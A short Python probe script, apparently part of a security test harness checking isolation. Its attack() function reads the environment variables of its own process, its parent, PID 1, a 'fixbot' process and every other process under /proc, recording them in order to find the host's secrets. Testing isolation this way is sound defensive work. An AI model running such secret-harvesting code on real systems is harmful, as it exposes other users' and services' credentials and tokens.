"""Look for the host's secrets in every environment in reach."""

import os

from probe import CASE, attempt, record


def read(path):
    with open(path, "rb") as handle:
        return handle.read().decode("utf-8", "replace")


def attack():
    record(environ=dict(os.environ))
    attempt("proc self", lambda: read("/proc/self/environ"))
    attempt("proc 1", lambda: read("/proc/1/environ"))
    attempt("proc fixbot", lambda: read(f"/proc/{CASE['fixbot_pid']}/environ"))
    attempt("proc parent", lambda: read(f"/proc/{os.getppid()}/environ"))
    found = {}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                found[pid] = read(f"/proc/{pid}/environ")
            except OSError as exc:
                found[pid] = type(exc).__name__
    record(all_processes=found)
